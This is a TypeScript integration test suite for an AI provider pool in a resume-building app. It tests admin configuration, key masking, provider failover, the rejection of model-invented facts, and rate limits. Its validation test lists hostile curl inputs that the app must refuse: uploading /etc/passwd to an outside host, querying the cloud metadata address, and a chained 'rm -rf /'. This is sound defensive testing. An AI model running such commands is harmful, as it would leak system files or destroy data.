import {
  type ApiConfig,
  applicationSchema,
  INPUT_LIMIT_MESSAGES,
  INPUT_LINE_MAX_CHARS,
  SUMMARY_NEEDS_FACTS_MESSAGE,
} from '@hireproof/contract';
import { resumeDocumentSchema } from '@hireproof/engine';
import { eq } from 'drizzle-orm';
import type { FastifyInstance, InjectOptions, LightMyRequestResponse } from 'fastify';
import pg from 'pg';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { postgresHandle } from '../../db/client.ts';
import { apiConfigs, apiUsage, applications } from '../../db/schema.ts';
import { sharedEnginePool } from '../../pool/engine-pool.ts';
import { testDrivers } from '../../test/databases.ts';
import { type OpenAiStub, STUB_INVENTIONS, startOpenAiStub } from '../../test/openai-stub.ts';
import {
  createTestApp,
  signUp,
  signUpAdmin,
  TEST_ORIGIN,
  type TestApp,
  uniqueEmail,
} from '../../test/test-app.ts';
import { SAMPLE_JOB, samplePdf, sampleResume } from '../applications/test-support/resume-files.ts';
import { consumeUsage } from './api-usage.queries.ts';

/** A builder draft as the Personal step sends it: one dated role and two skills. */
const BUILDER_DRAFT = {
  personalInfo: { name: 'Asha Rao', email: 'asha@example.com' },
  experience: [
    {
      title: 'Software Engineer',
      company: 'Finverse Technologies',
      startDate: '2021-03',
      current: true,
      bullets: ['Handled payment APIs in Django'],
    },
  ],
  skills: ['Python', 'Django'],
};

const CANARY = 'sk-canary-7f3e9c1d';
const ADMIN = 'ai-admin@example.test';
/**
 * Short enough that the stub's slow scenario times out, long enough that a healthy answer on a loaded
 * 2-core machine never does (1.5 s once timed out the invent-employer letter call).
 */
const PROVIDER_TIMEOUT_MS = 3000;
const STUB_SLOW_MS = 6000;

describe.each(testDrivers())('AI provider pool on %s', (driver) => {
  let stub: OpenAiStub;
  let t: TestApp;
  let adminCookie: string;
  /** Every response body this suite saw, for the canary check at the end. */
  const bodies: string[] = [];
  const extraLogs: string[][] = [];

  const call = async (app: FastifyInstance, options: InjectOptions): Promise<LightMyRequestResponse> => {
    const response = await app.inject({ ...options, headers: { ...TEST_ORIGIN, ...options.headers } });
    bodies.push(response.body);
    return response;
  };
  const asAdmin = (options: InjectOptions) => call(t.app, { ...options, headers: { cookie: adminCookie } });
  const newUser = async (app: FastifyInstance = t.app) =>
    (await signUp(app, { email: uniqueEmail('ai') })).cookie;

  /** One bullet clean-up request (POST /api/create-resume/ai-bullets) as the given user. */
  const postBullets = (cookie: string, payload: Record<string, unknown>, app: FastifyInstance = t.app) =>
    call(app, { method: 'POST', url: '/api/create-resume/ai-bullets', headers: { cookie }, payload });

  async function addConfig(fields: Record<string, unknown>): Promise<ApiConfig> {
    const response = await asAdmin({
      method: 'POST',
      url: '/api/admin/api-configs',
      payload: { type: 'api_key', apiKey: CANARY, baseUrl: stub.url, ...fields },
    });
    expect(response.statusCode, response.body).toBe(201);
    return response.json() as ApiConfig;
  }
  const listConfigs = async () =>
    (await asAdmin({ method: 'GET', url: '/api/admin/api-configs' })).json() as ApiConfig[];
  const stubRequests = (model: string) => stub.requests.filter((r) => r.body?.model === model);

  async function generate(cookie: string) {
    const data = new FormData();
    for (const [key, value] of Object.entries(SAMPLE_JOB)) data.append(key, value);
    data.append(
      'resume',
      new Blob([(await samplePdf()) as Uint8Array<ArrayBuffer>], { type: 'application/pdf' }),
      'cv.pdf',
    );
    const created = await call(t.app, {
      method: 'POST',
      url: '/api/applications',
      headers: { cookie },
      body: data,
    });
    expect(created.statusCode, created.body).toBeLessThan(300);
    const id = (created.json() as { id: string }).id;
    const deadline = Date.now() + 60_000;
    for (;;) {
      const got = await call(t.app, { method: 'GET', url: `/api/applications/${id}`, headers: { cookie } });
      const application = applicationSchema.parse(got.json());
      if (application.status === 'complete' || application.status === 'failed') {
        const [row] = await t.database.handle.db.select().from(applications).where(eq(applications.id, id));
        return { application, row: row! };
      }
      if (Date.now() > deadline) throw new Error(`application ${id} did not finish`);
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
  }

  beforeAll(async () => {
    stub = await startOpenAiStub({ slowMs: STUB_SLOW_MS });
    t = await createTestApp(driver, {
      env: { FILE_STORE: 'db' },
      ai: {
        allowLoopbackHttp: true,
        timeoutMs: PROVIDER_TIMEOUT_MS,
        builderLimit: { max: 5, windowMs: 60_000 },
      },
      applications: { startWorker: true, generationWaitMs: 30_000, concurrency: 2, backoffBaseMs: 50 },
    });
    adminCookie = (await signUpAdmin(t, { email: ADMIN })).cookie;
  }, 60_000);

  beforeEach(async () => {
    await t.database.handle.db.delete(apiConfigs);
    stub.requests.length = 0;
  });

  afterAll(async () => {
    // K-1 / I-4: the key never comes back — not in a response, a log line or an error message.
    for (const body of bodies) expect(body).not.toContain(CANARY);
    for (const line of [...(t?.logs ?? []), ...extraLogs.flat()]) expect(line).not.toContain(CANARY);
    await t?.close();
    await stub?.close();
  });

  describe('admin API', () => {
    it('is for admins only', async () => {
      const user = await newUser();
      for (const [method, url] of [
        ['GET', '/api/admin/api-configs'],
        ['POST', '/api/admin/api-configs'],
        ['PUT', '/api/admin/api-configs/00000000-0000-4000-8000-000000000000'],
        ['DELETE', '/api/admin/api-configs/00000000-0000-4000-8000-000000000000'],
        ['POST', '/api/admin/api-configs/00000000-0000-4000-8000-000000000000/test'],
      ] as const) {
        const response = await call(t.app, { method, url, headers: { cookie: user }, payload: {} });
        expect(response.statusCode, `${method} ${url}`).toBe(403);
      }
    });

    it('validates the form per SPEC §5 with clear messages', async () => {
      const cases: Array<[Record<string, unknown>, RegExp]> = [
        [{ type: 'api_key', apiKey: 'k' }, /Name is required/],
        [{ name: '  ', type: 'api_key', apiKey: 'k' }, /Name is required/],
        [{ name: 'A', type: 'api_key' }, /API key is required/],
        [{ name: 'A', type: 'curl' }, /Curl command is required/],
        [{ name: 'A', apiKey: 'k', priority: 0 }, /Priority must be at least 1/],
        [{ name: 'A', apiKey: 'k', rateLimitPerHour: 'lots' }, /Rate limit must be a number/],
        [
          { name: 'A', apiKey: 'k', baseUrl: 'https://10.0.0.1/v1' },
          /Base URL: address 10\.0\.0\.1 is not public/,
        ],
        [{ name: 'A', apiKey: 'k', baseUrl: 'http://api.example.com/v1' }, /Base URL/],
        [{ name: 'A', type: 'curl', curlCommand: 'curl -F f=@/etc/passwd https://x.test' }, /not supported/],
        [{ name: 'A', type: 'curl', curlCommand: 'curl https://169.254.169.254/latest' }, /Curl URL/],
        [{ name: 'A', type: 'curl', curlCommand: 'curl https://x.test; rm -rf /' }, /shell operators/],
      ];
      for (const [payload, message] of cases) {
        const response = await asAdmin({ method: 'POST', url: '/api/admin/api-configs', payload });
        expect(response.statusCode, JSON.stringify(payload)).toBe(400);
        expect(response.json().message).toMatch(message);
      }
    });

    it('stores the key encrypted, shows it masked, and applies SPEC §3 defaults', async () => {
      const created = await addConfig({ name: 'Primary' });
      expect(created).toMatchObject({
        name: 'Primary',
        type: 'api_key',
        apiKey: '••••••••9c1d',
        baseUrl: stub.url,
        priority: 1,
        rateLimitPerHour: 1000,
        active: true,
        healthy: true,
        currentUsage: 0,
        usagePercentage: 0,
        lastReset: null,
      });
      const [row] = await t.database.handle.db.select().from(apiConfigs).where(eq(apiConfigs.id, created.id));
      expect(row!.apiKeyEncrypted).toMatch(/^v1:/);
      expect(JSON.stringify(row)).not.toContain(CANARY);
      expect((await listConfigs()).map((c) => c.apiKey)).toEqual(['••••••••9c1d']);

      const toggled = await asAdmin({
        method: 'PUT',
        url: `/api/admin/api-configs/${created.id}`,
        payload: { active: false },
      });
      expect(toggled.json()).toMatchObject({ active: false, apiKey: '••••••••9c1d' });
      const removed = await asAdmin({ method: 'DELETE', url: `/api/admin/api-configs/${created.id}` });
      expect(removed.statusCode).toBe(204);
      expect(await listConfigs()).toEqual([]);
      const missing = await asAdmin({ method: 'DELETE', url: `/api/admin/api-configs/${created.id}` });
      expect(missing.statusCode).toBe(404);
    });

    it('tests a configuration: what was sent (key masked) and what came back', async () => {
      const config = await addConfig({ name: 'Stub', model: 'valid-test' });
      const response = await asAdmin({ method: 'POST', url: `/api/admin/api-configs/${config.id}/test` });
      const result = response.json();
      expect(result).toMatchObject({ success: true, error: null });
      expect(result.request.url).toBe(`${stub.url}/chat/completions`);
      expect(result.request.headers.authorization).toBe('Bearer ••••••••9c1d');
      expect(result.response).toMatchObject({ status: 200 });
      expect(result.response.body).toContain('{\\"ok\\": true}');
      // The provider did receive the real key.
      expect(stubRequests('valid-test')[0]?.headers.authorization).toBe(`Bearer ${CANARY}`);
    });

    it('marks a configuration unhealthy after 3 failures and healthy again after a successful test', async () => {
      const config = await addConfig({ name: 'Flaky', model: 'server-error' });
      for (let i = 0; i < 3; i += 1) {
        const result = (
          await asAdmin({ method: 'POST', url: `/api/admin/api-configs/${config.id}/test` })
        ).json();
        expect(result.success).toBe(false);
        expect(result.error).toMatch(/500/);
      }
      expect((await listConfigs())[0]).toMatchObject({ healthy: false });
      // Unhealthy configurations are not tried by the router.
      const cookie = await newUser();
      const before = stub.requests.length;
      const bullets = await postBullets(cookie, {
        title: 'Engineer',
        company: 'Acme',
        raw: '- built the billing service\n- wrote tests',
      });
      expect(bullets.statusCode).toBe(200);
      expect(stub.requests.length).toBe(before);

      await asAdmin({
        method: 'PUT',
        url: `/api/admin/api-configs/${config.id}`,
        payload: { model: 'valid-recovered' },
      });
      const recovered = (
        await asAdmin({ method: 'POST', url: `/api/admin/api-configs/${config.id}/test` })
      ).json();
      expect(recovered.success).toBe(true);
      expect((await listConfigs())[0]).toMatchObject({ healthy: true, lastError: null });
    });

    it('seeds one configuration from AI_BASE_URL / AI_API_KEY / AI_MODEL, idempotently', async () => {
      const env = { AI_BASE_URL: stub.url, AI_API_KEY: CANARY, AI_MODEL: 'valid-env' };
      for (let start = 0; start < 2; start += 1) {
        const again = await createTestApp(driver, {
          database: t.database,
          env,
          ai: { allowLoopbackHttp: true },
          applications: { startWorker: false },
        });
        extraLogs.push(again.logs);
        await again.close();
      }
      const seeded = await listConfigs();
      expect(seeded).toHaveLength(1);
      expect(seeded[0]).toMatchObject({
        name: 'Environment',
        type: 'api_key',
        baseUrl: stub.url,
        model: 'valid-env',
        apiKey: '••••••••9c1d',
      });
    });

    it('runs a curl configuration against the stub, with its own answer path', async () => {
      const base = stub.url.replace(/\/v1$/, '');
      const curlCommand = `curl ${base}/custom/chat \\
        -H 'Authorization: Bearer ${CANARY}' \\
        -H 'Content-Type: application/json' \\
        --data-raw '{"model": "valid-curl", "messages": {{messages_json}}}'`;
      const config = await addConfig({
        name: 'Curl',
        type: 'curl',
        apiKey: undefined,
        curlCommand,
        answerPath: 'output.text',
      });
      expect(config.curlCommand).toContain('Bearer ••••••••9c1d');
      const tested = (
        await asAdmin({ method: 'POST', url: `/api/admin/api-configs/${config.id}/test` })
      ).json();
      expect(tested.success, tested.error).toBe(true);

      const cookie = await newUser();
      const response = await postBullets(cookie, {
        title: 'Engineer',
        company: 'Acme',
        raw: '- built the billing service in Go\n- wrote integration tests',
      });
      expect(response.json()).toEqual({
        bullets: ['Built the billing service in Go', 'Wrote integration tests'],
      });
      const sent = stubRequests('valid-curl').at(-1)!;
      expect(sent.path).toBe('/custom/chat');
      expect(sent.headers.authorization).toBe(`Bearer ${CANARY}`);
      expect(sent.body?.messages?.[1]?.content).toContain('built the billing service in Go');
    });
  });

  describe('generation through the LLM writer', () => {
    it('records the writer and the model; resume and letter are asked for under a strict schema', async () => {
      await addConfig({ name: 'Valid', model: 'valid-writer' });
      const doneBefore = sharedEnginePool().stats().completedByTask;
      const { application, row } = await generate(await newUser());
      // The web thread only waited on the provider: the built-in base, the checks of the model's
      // answers, verification and analysis each ran as a task in the engine pool.
      const doneAfter = sharedEnginePool().stats().completedByTask;
      for (const task of [
        'builtInTailor',
        'applyLlmEdits',
        'assessTailored',
        'acceptLlmLetter',
        'jobKeywords',
      ])
        expect((doneAfter[task] ?? 0) - (doneBefore[task] ?? 0), task).toBeGreaterThanOrEqual(1);
      expect(application.status).toBe('complete');
      expect(application).toMatchObject({ writer: 'llm', model: 'valid-writer' });
      const sent = stubRequests('valid-writer');
      expect(sent.map((r) => r.body?.response_format?.json_schema?.name).sort()).toEqual([
        'cover_letter',
        'resume_edits',
      ]);
      expect(sent.every((r) => r.body?.response_format?.type === 'json_schema')).toBe(true);
      const prompt = sent.find((r) => r.body?.response_format?.json_schema?.name === 'resume_edits')!.body!
        .messages![1]!.content;
      expect(prompt).toMatch(/^W1\.B1 \[bullet\] "/m);
      expect(prompt).toMatch(/^W1 \[employer, locked\] "/m);
      expect(prompt).toMatch(/^K1 ".+" weight /m);
      expect(row.writer).toBe('llm');
      // The model's closing passes the writer gates and is kept; its opening uses a word that is in
      // neither the resume, the job nor the writer's vocabulary ('applying'), and its body pastes
      // raw bullets, so those sentences are replaced by the built-in writer's.
      expect(row.coverLetter).toContain(
        'I would welcome the chance to discuss the Staff Backend Engineer role with Northwind Payments.',
      );
      expect(row.coverLetter).not.toContain('I am applying for');
      expect(row.coverLetter).toContain(
        'I am writing to apply for the Staff Backend Engineer position at Northwind Payments.',
      );
      expect(t.logs.some((line) => line.includes('ai_letter_sentences_replaced'))).toBe(true);
    });

    it.each(['invent-employer', 'invent-number', 'invent-tool'])(
      '%s: invented facts are rejected and never reach the stored resume or letter',
      async (scenario) => {
        await addConfig({ name: scenario, model: scenario });
        const { application, row } = await generate(await newUser());
        expect(application.status).toBe('complete');
        expect(application.model).toBe(scenario);
        const stored = JSON.stringify(resumeDocumentSchema.parse(row.optimizedResume));
        const letter = row.coverLetter ?? '';
        const invented = {
          'invent-employer': STUB_INVENTIONS.employer,
          'invent-number': STUB_INVENTIONS.number,
          'invent-tool': STUB_INVENTIONS.tool,
        }[scenario]!;
        expect(JSON.stringify(sampleResume())).not.toContain(invented);
        expect(stored).not.toContain(invented);
        expect(letter).not.toContain(invented);
        expect(t.logs.some((line) => line.includes('ai_edit_rejected'))).toBe(true);
        expect(t.logs.some((line) => line.includes('ai_letter_rejected'))).toBe(true);
      },
    );

    it('schema unsupported: falls back to json_object on the same provider', async () => {
      await addConfig({ name: 'No schema', model: 'no-schema' });
      const { application } = await generate(await newUser());
      expect(application).toMatchObject({ writer: 'llm', model: 'no-schema' });
      const formats = stubRequests('no-schema').map((r) => r.body?.response_format?.type);
      expect(formats.filter((f) => f === 'json_schema')).toHaveLength(2);
      expect(formats.filter((f) => f === 'json_object')).toHaveLength(2);
    });

    it('no structured output at all: falls back to prompt-only JSON', async () => {
      await addConfig({ name: 'Plain', model: 'no-format' });
      const { application } = await generate(await newUser());
      expect(application).toMatchObject({ writer: 'llm', model: 'no-format' });
      expect(stubRequests('no-format').some((r) => r.body?.response_format === undefined)).toBe(true);
    });

    it.each(['malformed', 'rate-limited', 'server-error', 'slow'])(
      '%s at priority 1 fails over to priority 2',
      async (scenario) => {
        await addConfig({ name: scenario, model: scenario, priority: 1 });
        // The stub picks scenarios by substring, so the backup's name must not contain this one's.
        const backup = `valid-backup-${scenario.length}`;
        await addConfig({ name: 'Backup', model: backup, priority: 2 });
        const { application } = await generate(await newUser());
        expect(application).toMatchObject({ writer: 'llm', model: backup });
        expect(stubRequests(scenario).length).toBeGreaterThan(0);
      },
    );

    it('uses the built-in writer when no provider answers', async () => {
      await addConfig({ name: 'Down', model: 'server-error' });
      const { application } = await generate(await newUser());
      expect(application.status).toBe('complete');
      expect(application).toMatchObject({ writer: 'built-in', model: null });
    });

    it('tries configurations in priority order, skipping inactive ones', async () => {
      await addConfig({ name: 'Third', model: 'valid-p3', priority: 3 });
      await addConfig({ name: 'Inactive', model: 'valid-p0', priority: 1, active: false });
      await addConfig({ name: 'Second', model: 'valid-p2', priority: 2 });
      const cookie = await newUser();
      const response = await call(t.app, {
        method: 'POST',
        url: '/api/create-resume/ai-summarize',
        headers: { cookie },
        payload: {
          jobTitle: 'Backend Engineer',
          experience: 'Built payment APIs in Go\nRan PostgreSQL on AWS',
          draft: BUILDER_DRAFT,
        },
      });
      expect(response.statusCode).toBe(200);
      expect(stub.requests.map((r) => r.body?.model)).toEqual(['valid-p2']);
    });
  });

  describe('builder endpoints', () => {
    it('answer bad input with 400 and a message', async () => {
      const cookie = await newUser();
      const cases: Array<[string, Record<string, unknown>, RegExp]> = [
        ['ai-summarize', { experience: 'x' }, /Job title is required/],
        ['ai-bullets', { title: 'x', company: 'y', raw: '   ' }, /Bullet text is required/],
        ['ai-skills', { jobDescription: 'x' }, /Experience is required/],
      ];
      for (const [path, payload, message] of cases) {
        const response = await call(t.app, {
          method: 'POST',
          url: `/api/create-resume/${path}`,
          headers: { cookie },
          payload,
        });
        expect(response.statusCode).toBe(400);
        expect(response.json().message).toMatch(message);
      }
    });

    it('refuse a line longer than the application routes allow, at the door, with 400 (issue 26.2)', async () => {
      const cookie = await newUser();
      const longLine = 'Built services '.repeat(Math.ceil((INPUT_LINE_MAX_CHARS + 1) / 15));
      const doneBefore = sharedEnginePool().stats().completed;
      const cases: Array<[string, Record<string, unknown>]> = [
        ['ai-summarize', { jobTitle: 'Engineer', experience: `Short line\n${longLine}` }],
        ['ai-bullets', { raw: longLine }],
        ['ai-skills', { experience: 'Built Python services', jobDescription: longLine }],
        ['ai-skills', { experience: longLine }],
      ];
      for (const [path, payload] of cases) {
        const response = await call(t.app, {
          method: 'POST',
          url: `/api/create-resume/${path}`,
          headers: { cookie },
          payload,
        });
        expect(response.statusCode, path).toBe(400);
        expect(response.json().message).toContain(INPUT_LIMIT_MESSAGES.lineTooLong);
      }
      // Refused before any engine work.
      expect(sharedEnginePool().stats().completed).toBe(doneBefore);
    });

    it("write a summary from the draft's own facts without an AI provider (issue 28.4)", async () => {
      const cookie = await newUser();
      const payload = { jobTitle: 'Backend Engineer', experience: 'Handled payment APIs in Django' };
      const grounded = await call(t.app, {
        method: 'POST',
        url: '/api/create-resume/ai-summarize',
        headers: { cookie },
        payload: { ...payload, draft: BUILDER_DRAFT },
      });
      expect(grounded.statusCode, grounded.body).toBe(200);
      const summary = grounded.json().summary as string;
      expect(summary).toMatch(/^I am a Software Engineer with .*experience at Finverse Technologies\./);
      expect(summary).toContain('Python');
      expect(summary).not.toContain('Backend Engineer');

      // With nothing to state, the answer says what to add instead of an empty summary.
      const bare = await call(t.app, {
        method: 'POST',
        url: '/api/create-resume/ai-summarize',
        headers: { cookie },
        payload,
      });
      expect(bare.statusCode).toBe(400);
      expect(bare.json().message).toBe(SUMMARY_NEEDS_FACTS_MESSAGE);
      expect(stub.requests).toHaveLength(0);
    });

    it('run their engine work in the engine pool, not on the event loop (issue 26.2)', async () => {
      const cookie = await newUser();
      const doneBefore = sharedEnginePool().stats().completedByTask;
      const requests: Array<[string, Record<string, unknown>]> = [
        [
          'ai-summarize',
          { jobTitle: 'Engineer', experience: 'Built Python services with SQL on AWS', draft: BUILDER_DRAFT },
        ],
        ['ai-bullets', { raw: '- wrote integration tests' }],
        ['ai-skills', { jobDescription: 'We need Python.', experience: 'Built Python services' }],
      ];
      for (const [path, payload] of requests) {
        const response = await call(t.app, {
          method: 'POST',
          url: `/api/create-resume/${path}`,
          headers: { cookie },
          payload,
        });
        expect(response.statusCode, path).toBe(200);
      }
      const doneAfter = sharedEnginePool().stats().completedByTask;
      for (const task of ['builderResume', 'builtInSummary', 'builtInBullets', 'builtInSkills', 'skillList'])
        expect((doneAfter[task] ?? 0) - (doneBefore[task] ?? 0), task).toBeGreaterThanOrEqual(1);
    });

    it('work with the built-in writer when no configuration exists (SPEC §5 clean-up and normalisation)', async () => {
      const cookie = await newUser();
      const bullets = await postBullets(cookie, {
        title: 'Engineer',
        company: 'Acme',
        raw: '• Responsible for building the API\n- responsible for building the API\n* Wrote tests',
      });
      expect(bullets.statusCode).toBe(200);
      const list = bullets.json().bullets as string[];
      expect(list.length).toBe(2);
      expect(list.every((b) => !/^[•*-]/.test(b))).toBe(true);

      const skills = await call(t.app, {
        method: 'POST',
        url: '/api/create-resume/ai-skills',
        headers: { cookie },
        payload: {
          jobDescription: 'We need Python, SQL and AWS.',
          experience: 'Built Python services with SQL on AWS',
        },
      });
      expect(skills.statusCode).toBe(200);
      expect(skills.json().skills).toEqual(expect.arrayContaining(['Python', 'SQL', 'AWS']));
      expect(stub.requests).toHaveLength(0);
    });

    it('are rate-limited per user', async () => {
      const cookie = await newUser();
      const statuses: number[] = [];
      for (let i = 0; i < 7; i += 1) {
        const response = await postBullets(cookie, { raw: 'wrote tests' });
        statuses.push(response.statusCode);
      }
      expect(statuses.filter((s) => s === 200)).toHaveLength(5);
      expect(statuses.slice(5)).toEqual([429, 429]);
      const other = await postBullets(await newUser(), { raw: 'wrote tests' });
      expect(other.statusCode).toBe(200);
    });
  });

  describe('hourly limits', () => {
    it('counts usage, stops at the limit and records the window start', async () => {
      const config = await addConfig({ name: 'Limited', model: 'valid-limited', rateLimitPerHour: 2 });
      for (let i = 0; i < 3; i += 1) {
        const response = await postBullets(await newUser(), { raw: 'built the billing service' });
        expect(response.statusCode).toBe(200);
      }
      expect(stubRequests('valid-limited')).toHaveLength(2);
      const [shown] = await listConfigs();
      expect(shown).toMatchObject({ id: config.id, currentUsage: 2, usagePercentage: 100 });
      expect(shown!.lastReset).not.toBeNull();
      expect(new Date(shown!.lastReset!).getUTCMinutes()).toBe(0);
    });

    // Two processes sharing one database is a PostgreSQL deployment (PGlite is single-process).
    if (driver === 'postgres')
      it('are shared by two app instances on one PostgreSQL database', async () => {
        const config = await addConfig({ name: 'Shared', model: 'valid-shared', rateLimitPerHour: 4 });
        const url = t.database.url!;
        const second = await createTestApp(driver, {
          database: {
            handle: postgresHandle(new pg.Pool({ connectionString: url, max: 5 }), 'second'),
            url,
            dispose: async () => undefined,
          },
          ai: { allowLoopbackHttp: true, timeoutMs: PROVIDER_TIMEOUT_MS },
          applications: { startWorker: false },
        });
        extraLogs.push(second.logs);
        try {
          const cookies = await Promise.all(
            Array.from({ length: 10 }, (_, i) => newUser(i % 2 ? t.app : second.app)),
          );
          const responses = await Promise.all(
            cookies.map((cookie, i) =>
              postBullets(cookie, { raw: 'built the billing service' }, i % 2 ? t.app : second.app),
            ),
          );
          expect(responses.every((r) => r.statusCode === 200)).toBe(true);
          expect(stubRequests('valid-shared')).toHaveLength(4);
          const fromSecond = (
            await call(second.app, {
              method: 'GET',
              url: '/api/admin/api-configs',
              headers: { cookie: adminCookie },
            })
          ).json() as ApiConfig[];
          expect(fromSecond.find((c) => c.id === config.id)).toMatchObject({
            currentUsage: 4,
            usagePercentage: 100,
          });

          // The count itself, raced from both pools: exactly the limit succeeds.
          const results = await Promise.all(
            Array.from({ length: 40 }, (_, i) =>
              consumeUsage(
                i % 2 ? t.database.handle.db : second.database.handle.db,
                config.id,
                20,
                new Date(Date.now() + 3_600_000),
              ),
            ),
          );
          expect(results.filter((r) => r !== undefined)).toHaveLength(20);
          const rows = await t.database.handle.db
            .select()
            .from(apiUsage)
            .where(eq(apiUsage.configId, config.id));
          expect(rows.map((r) => r.count).sort()).toEqual([20, 4]);
        } finally {
          await second.close();
          await second.database.handle.close();
        }
      }, 60_000);
  });
});
